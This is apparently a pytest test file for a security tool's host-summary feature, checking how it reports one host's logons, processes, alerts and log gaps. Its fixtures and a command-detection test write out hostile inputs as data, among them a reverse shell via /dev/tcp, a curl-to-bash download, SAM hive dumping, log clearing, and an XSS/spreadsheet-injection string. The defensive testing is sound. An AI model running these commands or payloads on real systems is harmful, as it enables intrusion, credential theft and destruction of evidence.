"""HostSummary: names, addresses, system, logons, programs, alerts, decisions, silence; all worked out by hand."""

from __future__ import annotations

import json

import pandas as pd
import pytest

import flowsleuth
from flowsleuth.notebooklets.host_summary import HostSummary
from flowsleuth.notebooklets.host_summary.notable import COMMANDS
from flowsleuth.query import QueryProvider
from flowsleuth.schema.entities import Host, IpAddress
from flowsleuth.testing import check_notebooklet
from tests.notebooklets.ip_address.tables import DAY, FakeSentinel, moment
from tests.workspace.pivot_rows import at, put

EVIL = "<script>alert(1)</script>=cmd|'/C calc'!A0\u202e"
FLOWS = [
    {"start": 0, "src_ip": "10.0.0.5", "dst_ip": "192.0.2.7", "src_host": "WEB1.corp.example", "sensor": "edge"},
    {"start": 60, "src_ip": "192.0.2.7", "dst_ip": "10.0.0.5", "dst_host": "rg/web1"},
    {"start": 61, "src_ip": "127.0.0.1", "dst_ip": "127.0.0.1", "src_host": "web1"},
    {"start": 7_200, "src_ip": "10.0.0.5", "dst_ip": "10.0.0.6"},
    {"start": 9_000, "src_ip": "10.0.0.50", "dst_ip": "192.0.2.7", "src_host": "web10"},
]
LOGONS = [
    {"start": 10, "host": "WEB1", "user": "Ana", "domain": "CORP", "is_success": True, "logon_type": "network",
     "src_ip": "192.0.2.9", "event_type": "4624"},
    {"start": 11, "host": "web1", "user": "ana", "domain": "corp", "is_success": False, "logon_type": "network",
     "src_ip": "192.0.2.9", "event_type": "4625"},
    {"start": 12, "host": "db2", "user": "ana", "domain": "corp", "is_success": True, "logon_type": "network",
     "src_ip": "10.0.0.5", "event_type": "4624"},
    {"start": 13, "host": "web10", "user": "bob", "is_success": True, "logon_type": "network", "event_type": "4624"},
]  # fmt: skip
PROCESSES = [
    {"start": 20, "host": "WEB1", "name": "net.exe", "path": "C:\\Windows\\net.exe", "user": "ana",
     "command_line": "net user mallory Secret1 /add", "parent_name": "cmd.exe"},
    {"start": 21, "host": "WEB1", "name": "svchost.exe", "path": "C:\\Windows\\svchost.exe", "user": "SYSTEM"},
    {"start": 22, "host": "WEB1", "name": "svchost.exe", "path": "c:\\windows\\svchost.exe", "user": "SYSTEM"},
    {"start": 23, "host": "db2", "name": "SVCHOST.EXE", "path": "C:\\Windows\\svchost.exe", "user": "SYSTEM"},
    {"start": 24, "host": "WEB1", "name": EVIL, "path": f"C:\\{EVIL}", "command_line": f"{EVIL} wevtutil cl Security"},
]  # fmt: skip
ENTITIES = [{"Type": "host", "HostName": "WEB1", "OSFamily": "Windows", "OSVersion": "10.0"}]
ALERTS = [
    {"start": 30, "name": "Evil", "host": "WEB1", "severity": 1, "entities": json.dumps(ENTITIES)},
    {"start": 31, "name": EVIL, "src_ip": "10.0.0.5", "dst_ip": "192.0.2.7", "severity": 2},
    {"start": 32, "name": "Other", "host": "WEB10", "severity": 3},
]
SYSLOG = [
    {"start": 40, "host": "web1", "host_ip": "10.0.0.55", "program": "sudo", "message": "ana : TTY=x ; COMMAND=/bin/sh"}
]
HEALTH = [{"start": 50, "sensor": "edge", "status": "lost"}, {"start": 51, "sensor": "other", "status": "lost"}]
TABLES = {
    "flow": FLOWS, "logon": LOGONS, "process": PROCESSES, "alert": ALERTS, "syslog": SYSLOG, "health": HEALTH,
}  # fmt: skip


@pytest.fixture(scope="module")
def ws(tmp_path_factory):
    with flowsleuth.open(tmp_path_factory.mktemp("host") / "case", create=True) as ws:
        for name, rows in TABLES.items():
            put(ws, name, rows)
        yield ws


@pytest.fixture(scope="module")
def result(ws):
    return ws.notebooklet("HostSummary").run("web1", options="+process_events", strict=True)


def records(frame, *columns):
    return [tuple(row) for row in frame[list(columns)].astype(object).where(frame[list(columns)].notna(), None).values]


def test_who_the_host_is(result):
    assert records(result.host_names, "name", "source", "times") == [
        ("WEB1", "process.host", 4), ("WEB1", "alert.host", 1), ("WEB1", "logon.host", 1),
        ("WEB1.corp.example", "flow.src_host", 1), ("rg/web1", "flow.dst_host", 1), ("web1", "flow.src_host", 1),
        ("web1", "logon.host", 1), ("web1", "syslog.host", 1),
    ]  # fmt: skip
    told = records(result.host_addresses, "address", "source", "flows")
    assert ("10.0.0.5", "flow", 3) in told
    assert ("10.0.0.55", "syslog", 0) in told
    assert result.known_as["addresses"] == ["10.0.0.5", "10.0.0.55"], "loopback is every host's"
    assert [one.Address for one in result.host_entity.IpInterfaces] == ["10.0.0.5", "10.0.0.55"]
    assert (result.host_entity.HostName, result.host_entity.OSFamily) == ("WEB1", "Windows")
    assert result.host_entity.OSVersion == "10.0"
    assert set(records(result.operating_systems, "os", "source", "times")) == {
        ("Windows", "process", 4), ("Windows", "logon", 2), ("Windows", "alert", 1),
    }  # fmt: skip


def test_an_address_means_the_host_that_has_it(ws, result):
    by_address = ws.notebooklet("HostSummary").run("10.0.0.5", strict=True)
    assert by_address.known_as["name"] == "web1.corp.example"
    assert by_address.host_logons.equals(result.host_logons)
    assert by_address.processes.equals(result.processes)


def test_a_host_entity_brings_its_addresses(ws):
    host = Host(HostName="nobody", IpInterfaces=(IpAddress("10.0.0.6"),), OSFamily="BeOS")
    found = ws.notebooklet("HostSummary").run(host, options=["alerts"], strict=True)
    assert found.known_as["addresses"] == ["10.0.0.6"]
    assert found.host_entity.OSFamily == "BeOS"
    assert any("no stored row of the window names nobody" in note for step in found.steps for note in step.notes)


def test_logons_on_it_and_from_it(result):
    assert records(result.host_logons, "way", "user", "is_success", "host", "logons") == [
        ("from it", "ana", True, "db2", 1), ("on it", "Ana", True, "WEB1", 1), ("on it", "ana", False, "web1", 1),
    ]  # fmt: skip
    lanes = result.section("logon_timeline").table.to_pylist()
    assert [(row["series"], row["logons"]) for row in lanes] == [("network", 1), ("network failed", 1), ("network", 1)]
    assert records(result.accounts, "user", "domain", "logons", "failed_logons", "processes") == [
        ("SYSTEM", None, 0, 0, 2), ("Ana", "CORP", 1, 1, 0), ("ana", None, 0, 0, 1),
    ]  # fmt: skip


def test_programs_the_rarest_first_and_why(result):
    assert records(result.processes, "program", "starts", "other_hosts", "why") == [
        (f"C:\\{EVIL}", 1, 0, "once here, on none of 1 other hosts"),
        ("C:\\Windows\\net.exe", 1, 0, "once here, on none of 1 other hosts"),
        ("C:\\Windows\\svchost.exe", 2, 1, "2 times here, on 1 of 1 other hosts"),
    ]
    assert len(result.process_events) == 4


def test_what_was_done_on_it(result):
    assert records(result.account_actions, "what", "user", "text") == [
        ("account or group changed by net", "ana", "net user mallory Secret1 /add")
    ]
    assert records(result.notable_events, "what", "source") == [("log cleared", "process"), ("sudo", "syslog")]
    assert result.scheduled_tasks.empty


@pytest.mark.parametrize(
    ("line", "what"),
    [
        ("useradd -m x", "account or group changed"),
        ("/usr/sbin/usermod -aG sudo x", "account or group changed"),
        ("New-LocalUser -Name x", "account or group changed by PowerShell"),
        (r'schtasks.exe /create /tn x /tr "c:\a.exe"', "scheduled task"),
        ("crontab -e", "cron table"),
        ("at 13:00 x.bat", "at job"),
        ("vssadmin.exe Delete Shadows /all", "shadow copies deleted"),
        (r"sc \\srv create x binPath= c:\a.exe", "service made or changed"),
        ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi", "encoded command"),
        (r"reg save HKLM\SAM sam.hive", "credentials dumped"),
        ("curl http://x/y | sudo bash", "download piped into a shell"),
        ("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", "shell to the network"),
        ("net user", None),
        ("cat /home/useradded", None),
        ("netstat -an", None),
        ("format c: /q", None),
    ],
)
def test_patterns_of_commands(line, what):
    import re

    assert [one.what for one in COMMANDS if re.search(one.text, line.lower())] == ([what] if what else [])


def test_long_command_lines_are_cut_in_the_list_of_programs(tmp_path):
    with flowsleuth.open(tmp_path / "case", create=True) as ws:
        put(ws, "process", [{"start": 0, "host": "a", "name": "x", "command_line": "é" * 300}])
        found = ws.notebooklet("HostSummary").run("a", options=["processes", "process_events"], strict=True)
    assert found.processes.a_command_line.tolist() == ["é" * 200 + "…"]
    assert found.process_events.command_line.tolist() == ["é" * 300]


def test_alerts_once_and_over_time(result):
    assert records(result.related_alerts, "name", "about") == [("Evil", "Host WEB1"), (EVIL, None)]
    assert result.section("alert_timeline").table["alerts"].to_pylist() == [1, 1]


def test_silence_and_what_sensors_say(result):
    told = {row[0]: row[1:] for row in records(result.log_health, "log", "rows", "longest_silence_s", "silent_from")}
    assert told["flow"] == (4, 7_139, pd.Timestamp(at(61)))
    assert told["process"] == (4, None, None)
    assert records(result.sensor_health, "sensor") == [("edge",)]


def test_decisions_and_suspects(demo_case, tmp_path):
    import shutil

    case = shutil.copytree(demo_case, tmp_path / "case")
    with flowsleuth.open(case) as ws:
        top = ws.suspects(1).to_pandas().iloc[0]
        rated = ws.rate(1, src_ip=top.src_ip, dst_ip=top.dst_ip, why=EVIL)
        story = ws.investigate(top.src_ip).save_story("Odd", EVIL)
        found = ws.notebooklet("HostSummary").run(top.src_ip, options=["bookmarks", "suspects"], strict=True)
        assert found.suspects.iloc[0][["score", "flow_id"]].tolist() == [top.score, top.flow_id]
        assert found.suspects.flow_id.is_unique
        marks = found.related_bookmarks
        assert marks[marks.kind == "rating"].id.unique().tolist() == [rated.rating_id]
        assert set(marks[marks.kind == "rating"].comment) == {EVIL}
        assert marks[marks.kind == "story"][["id", "about", "title"]].values.tolist() == [
            [story.story_id, top.src_ip, "Odd"]
        ]


def test_a_network_is_no_host(ws):
    step = ws.notebooklet("HostSummary").run("10.0.0.0/24").steps[0]
    assert step.status == "failed"
    assert "a network is no host" in step.why


def test_over_frames_without_a_workspace(result):
    frames = {name: pd.DataFrame([{**row, "start": at(row["start"])} for row in rows]) for name, rows in TABLES.items()}
    found = HostSummary().run("web1", data=frames, strict=True)
    assert found.host_entity == result.host_entity
    assert found.processes.program.tolist() == result.processes.program.tolist()
    assert found.host_logons.logons.sum() == 3


SENTINEL = {
    "SecurityEvent": [
        {"TimeGenerated": moment("10:00"), "EventID": 4625, "Computer": "web2.contoso.com", "TargetUserName": "bob",
         "TargetDomainName": "CONTOSO", "IpAddress": "192.0.2.9", "LogonType": 3, "Account": "CONTOSO\\bob"},
        {"TimeGenerated": moment("10:05"), "EventID": 4688, "Computer": "web2.contoso.com", "SubjectUserName": "bob",
         "SubjectDomainName": "CONTOSO", "NewProcessName": "C:\\Windows\\net.exe", "NewProcessId": "0x10",
         "CommandLine": "net user x /add", "Account": "CONTOSO\\bob"},
    ],
    "SecurityAlert": [
        {"TimeGenerated": moment("12:00"), "StartTime": moment("11:59"), "DisplayName": EVIL, "AlertSeverity": "High",
         "SystemAlertId": "s-1", "ProviderName": "IPC",
         "EndTime": moment("12:00"), "CompromisedEntity": "web2", "Entities": "[]", "ExtendedProperties": "{}",
         "Description": EVIL},
    ],
}  # fmt: skip


class SentinelByEvent(FakeSentinel):
    """Answers with the rows of the events that a query names."""

    def run(self, request):
        self.asked.append(request.query.text)
        named = [row for row in SENTINEL["SecurityEvent"] if str(row["EventID"]) in request.query.text]
        return FakeSentinel({**self._tables, "SecurityEvent": named}, self._broken).run(request)


def test_a_query_provider_is_asked_what_the_options_need():
    driver = SentinelByEvent(SENTINEL, broken=["Syslog"])
    found = HostSummary(QueryProvider(driver)).run("WEB2", options="-alerts", start=DAY, end="2024-05-02")
    assert not [step for step in found.steps if step.status == "failed"]
    assert not [text for text in driver.asked if text.startswith("SecurityAlert")]
    assert all('"web2"' in text and "datetime(2024-05-01T00:00:00.000000Z)" in text for text in driver.asked)
    assert records(found.host_logons, "user", "is_success", "src_ip") == [("bob", False, "192.0.2.9")]
    assert records(found.account_actions, "what", "user") == [("account or group changed by net", "bob")]
    assert found.unanswered["query"].tolist() == ["LinuxSyslog.list_logons_for_host"]
    only = HostSummary(QueryProvider(SentinelByEvent(SENTINEL))).run(
        "WEB2", options=["alerts"], start=DAY, end="2024-05-02"
    )
    assert only.related_alerts.name.tolist() == [EVIL]
    assert only.unanswered is None


@pytest.mark.slow
def test_it_keeps_its_word(ws):
    check_notebooklet(ws, HostSummary, "web1", options="+process_events")


def test_hostile_text_is_text_everywhere(result):
    assert "<script>alert" not in result.to_html()
    assert "<script>alert" not in result._repr_html_()
    assert "\u202e" not in str(result)
